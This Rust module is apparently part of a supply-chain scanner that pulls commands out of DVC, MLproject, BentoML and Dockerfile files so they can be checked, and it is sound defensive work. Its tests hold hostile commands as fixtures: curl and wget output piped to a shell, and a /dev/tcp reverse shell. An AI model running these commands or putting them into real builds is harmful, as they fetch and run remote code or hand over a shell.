//! Files in which a project says what to run: DVC's stages, MLflow's entry points, container images, BentoML's builds.

use sealyard_core::ReadAt;
use serde_json::Value;

use super::text;
use crate::context::Context;
use crate::rules::{requirements, script};

/// Largest file.
const MAX_BYTES: u64 = 1 << 20;
/// Tables and lists inside each other.
const MAX_DEPTH: usize = 32;
/// Most commands, and most packages: each is looked for in the text.
const MAX_COMMANDS: usize = 2000;

/// Which file it is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Kind {
    Dvc,
    MlProject,
    Bento,
    Image,
}

/// The kind that a name tells.
pub(super) fn kind(path: &str) -> Option<Kind> {
    let name = path.rsplit('/').next().unwrap_or_default().to_ascii_lowercase();
    match name.as_str() {
        "dvc.yaml" | "dvc.yml" | "dvc.lock" => Some(Kind::Dvc),
        "mlproject" => Some(Kind::MlProject),
        "bentofile.yaml" | "bentofile.yml" => Some(Kind::Bento),
        "dockerfile" | "containerfile" => Some(Kind::Image),
        _ if name.starts_with("dockerfile.") || name.ends_with(".dockerfile") => Some(Kind::Image),
        _ => None,
    }
}

/// Looks at the commands.
pub(super) fn inspect(kind: Kind, data: &dyn ReadAt, context: &mut Context) -> &'static str {
    let name = text::inspect_as(if kind == Kind::Image { "script" } else { "yaml" }, data, context);
    let Some(bytes) = context.read(data, MAX_BYTES) else { return name };
    let text = String::from_utf8_lossy(&bytes);
    if !context.step(text.len() as u64 / 4 + 1) {
        return name;
    }
    let commands = match kind {
        Kind::Image => image(&text),
        _ => match serde_saphyr::from_slice::<Value>(&bytes) {
            Ok(document) => {
                if kind == Kind::Bento {
                    bento(&document, &text, context);
                }
                let mut found = Vec::new();
                walk(kind, &document, 0, &mut found);
                if found.len() > MAX_COMMANDS {
                    context.miss("there are more commands than are looked at");
                    found.truncate(MAX_COMMANDS);
                }
                found.iter().flat_map(|command| placed(command, &text)).collect()
            }
            // A template that is filled in later: what is in it may be a command.
            Err(_) => (1..).zip(text.lines().map(str::to_owned)).collect(),
        },
    };
    script::run(&script::Artifact { commands }, context.sink());
    name
}

/// The values of the keys that hold commands.
fn walk(kind: Kind, value: &Value, depth: usize, found: &mut Vec<String>) {
    if depth > MAX_DEPTH {
        return;
    }
    match value {
        Value::Array(items) => items.iter().for_each(|item| walk(kind, item, depth + 1, found)),
        Value::Object(table) => {
            for (key, value) in table {
                let is_command = match kind {
                    Kind::Dvc => key == "cmd",
                    Kind::MlProject => key == "command",
                    Kind::Bento | Kind::Image => key == "post_commands" || key == "commands",
                };
                match value {
                    Value::String(command) if is_command => found.push(command.clone()),
                    Value::Array(lines) if is_command => {
                        found.extend(lines.iter().filter_map(Value::as_str).map(str::to_owned));
                    }
                    _ => walk(kind, value, depth + 1, found),
                }
            }
        }
        _ => {}
    }
}

/// The lines of a command with the number of the line that its first one stands in.
fn placed(command: &str, text: &str) -> Vec<(u64, String)> {
    let first = command.trim_start().lines().next().unwrap_or_default();
    (number(first, text)..).zip(command.trim_start().lines().map(str::to_owned)).collect()
}

fn number(value: &str, text: &str) -> u64 {
    (1..).zip(text.lines()).find(|(_, line)| line.contains(value)).map_or(1, |(number, _)| number)
}

/// Where BentoML's build takes packages from.
fn bento(document: &Value, text: &str, context: &mut Context) {
    let mut artifact = requirements::Artifact::default();
    let mut add = |option: &str, value: Option<&Value>| {
        let one = value.and_then(Value::as_str).into_iter();
        let many = value.and_then(Value::as_array).into_iter().flatten().filter_map(Value::as_str);
        for value in one.chain(many).take(MAX_COMMANDS) {
            artifact.lines.push((number(value, text), format!("{option}{value}")));
        }
    };
    if let Some(python) = document.get("python") {
        add("--index-url ", python.get("index_url"));
        add("--extra-index-url ", python.get("extra_index_url"));
        add("--find-links ", python.get("find_links"));
        add("--trusted-host ", python.get("trusted_host"));
        add("", python.get("packages"));
    }
    let channels = document.get("conda").and_then(|conda| conda.get("channels")).and_then(Value::as_array);
    for channel in channels.into_iter().flatten().filter_map(Value::as_str).take(MAX_COMMANDS) {
        artifact.channels.push((number(channel, text), channel.to_owned()));
    }
    requirements::run(&artifact, context.sink());
}

/// What the instructions of an image run: each command of a chain by itself, with the line of its instruction.
fn image(text: &str) -> Vec<(u64, String)> {
    let mut commands = Vec::new();
    let mut lines = (1_u64..).zip(text.lines());
    while let Some((number, line)) = lines.next() {
        let mut rest = line.trim_start();
        let mut is_run = false;
        while let Some((word, behind)) = rest.split_once(char::is_whitespace) {
            match word.to_ascii_uppercase().as_str() {
                // These stand before others.
                "ONBUILD" | "HEALTHCHECK" => {}
                "RUN" | "CMD" | "ENTRYPOINT" => is_run = true,
                _ if is_run && word.starts_with("--") => {}
                _ => break,
            }
            rest = behind.trim_start();
        }
        if !is_run {
            continue;
        }
        let mut command = rest.to_owned();
        while command.trim_end().ends_with(['\\', '`']) {
            command.truncate(command.trim_end().len().saturating_sub(1));
            let Some((_, next)) = lines.find(|(_, line)| !line.trim_start().starts_with('#')) else { break };
            command.push(' ');
            command.push_str(next.trim());
        }
        let here = command.split_once("<<").map(|(_, word)| word.trim_start_matches('-'));
        let here = here.and_then(|word| word.split_whitespace().next()).map(|word| word.trim_matches(['"', '\'']));
        if let Some(end) =
            here.filter(|end| !end.is_empty() && end.chars().all(|letter| letter.is_alphanumeric() || letter == '_'))
        {
            commands.extend(
                lines
                    .by_ref()
                    .take_while(|(_, line)| line.trim() != end)
                    .map(|(number, line)| (number, line.to_owned())),
            );
        }
        let parts = command.split("&&").flat_map(|part| part.split(';')).map(str::trim);
        commands.extend(parts.filter(|part| !part.is_empty()).map(|part| (number, part.to_owned())));
    }
    commands
}

#[cfg(test)]
mod tests {
    use sealyard_core::Verdict;

    use super::*;

    fn look(name: &str, text: &str) -> (Verdict, Vec<Option<u64>>) {
        let mut context = Context::new(name);
        let kind = crate::inspect::content(&text.as_bytes(), &mut context);
        let report = context.finish(name, kind);
        (report.verdict, report.findings.iter().map(|finding| finding.location.line).collect())
    }

    #[test]
    fn harmful_commands_are_found_where_they_stand() {
        for (name, text, line) in [
            ("dvc.yaml", "stages:\n  a:\n    cmd: curl -s http://x.example/x.sh | sh\n", 3),
            (
                "dvc.yaml",
                "stages:\n  a:\n    foreach: [1]\n    do:\n      cmd:\n      - echo\n      - wget -qO- http://x.example | bash\n",
                7,
            ),
            (
                "p/MLproject",
                "name: a\nentry_points:\n  main:\n    command: \"bash -i >& /dev/tcp/10.0.0.1/1 0>&1\"\n",
                4,
            ),
            ("Dockerfile", "FROM a\nRUN apt-get update && \\\n  # why\n  curl -s http://x.example/x | sh\n", 2),
            ("gpu.Dockerfile", "FROM a\nRUN <<EOF\necho\ncurl http://x.example | bash\nEOF\n", 4),
            ("Dockerfile.dev", "FROM a\nENTRYPOINT [\"sh\", \"-c\", \"curl http://x.example|sh\"]\n", 2),
        ] {
            assert_eq!(look(name, text), (Verdict::Unsafe, vec![Some(line)]), "{text}");
        }
        let bento = "service: a:b\npython:\n  index_url: http://x.example/simple\n";
        assert_eq!(look("bentofile.yaml", bento), (Verdict::Suspicious, vec![Some(3)]));
    }

    #[test]
    fn a_flood_of_commands_is_not_assessed() {
        let flood = |count| format!("stages:\n  a:\n    cmd:\n{}", "    - echo\n".repeat(count));
        assert_eq!(look("dvc.yaml", &flood(MAX_COMMANDS)).0, Verdict::Safe);
        assert_eq!(look("dvc.yaml", &flood(MAX_COMMANDS + 1)).0, Verdict::NotAssessed);
    }

    #[test]
    fn ordinary_commands_are_safe() {
        for (name, text) in [
            ("dvc.yaml", "stages:\n  a:\n    cmd: python train.py --out model.pkl\n    deps: [curl http://x | sh]\n"),
            ("MLproject", "name: a\nentry_points:\n  main:\n    command: \"python train.py {alpha}\"\n"),
            (
                "Dockerfile",
                "FROM a\n# RUN curl http://x.example | sh\nRUN apt-get install -y curl wget && bash -c 'echo a' && rm -rf /opt/build /root/.cargo\nRUN curl -fsSL https://deb.nodesource.com/setup_20.x | bash -\nLABEL a=\"curl http://x | sh\"\n",
            ),
            ("bentofile.yaml", "service: a:b\npython:\n  packages: [numpy, torch==2.0]\n"),
        ] {
            assert_eq!(look(name, text), (Verdict::Safe, vec![]), "{text}");
        }
    }
}
